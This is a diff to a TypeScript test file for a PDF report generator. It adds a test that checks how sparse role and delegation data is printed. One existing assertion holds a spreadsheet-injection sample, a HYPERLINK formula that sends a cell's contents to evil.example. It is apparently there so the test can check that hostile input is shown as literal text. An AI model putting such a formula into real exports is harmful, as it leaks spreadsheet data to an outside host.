@@ -4,7 +4,7 @@ import { buildOrganizationSummary } from '../model/build-organization-summary';
 import { buildRoleDefinitions } from '../model/build-role-definitions';
 import type { Report } from '../model/report-types';
 import { readPdf, type PdfText } from '../testing/read-pdf';
-import { awkwardInputs, collect, demoInputs, duty, inputsFrom, person } from '../testing/report-fixtures';
+import { awkwardInputs, collect, demoInputs, duty, inputsFrom, person, sparseInputs } from '../testing/report-fixtures';
 import { writePdf } from './write-pdf';
 
 async function pdfOf(
@@ -125,6 +125,32 @@ describe('writePdf', () => {
     expect(text).toContain('No responsibilities are recorded for this role');
     expect(text).toContain('Zoë Łukasiewicz');
     expect(text).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")');
+  }, 30_000);
+
+  it('prints no mix for a role without data, what was not checked, the chain and the severity appendix', async () => {
+    const sparse = sparseInputs();
+    const roles = await pdfOf(
+      buildRoleDefinitions(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options, { all: true }),
+    );
+    const text = flat(roles.pdf.text);
+    expect(text).toContain('Not assessed: no responsibilities are recorded for this role, so there is no mix to compare');
+    expect(text).toContain('Delegation gap: no responsibilities recorded');
+    expect(text).toContain('Alex Tech hands “Log daily checks” to Sam Tech');
+    expect(text).toContain('Best fit: Sam Tech');
+    expect(text).toContain('Appendix: what severity means and how it is computed');
+    // The mix chart is drawn for the three roles with data only.
+    expect(text.split('Value-level mix: expected vs actual').length - 1).toBe(3);
+
+    const review = flat(
+      (await pdfOf(buildDelegationReview(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options, 'D1'))).pdf.text,
+    );
+    expect(review).toContain('Responsibilities are recorded for 3 of the 5 positions in the team.');
+    expect(review).toContain('Mo Manager (Operations Manager): Delegation gap: no responsibilities recorded');
+    const summary = flat(
+      (await pdfOf(buildOrganizationSummary(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options))).pdf.text,
+    );
+    expect(summary).toContain('Responsibilities are recorded for 3 of 5 positions (60%).');
+    expect(summary).toContain('Delegation gap: not checked for 1 person (no responsibilities recorded: 1)');
   }, 30_000);
 
   it('writes a delegation review, and says so when a leader has no gaps', async () => {
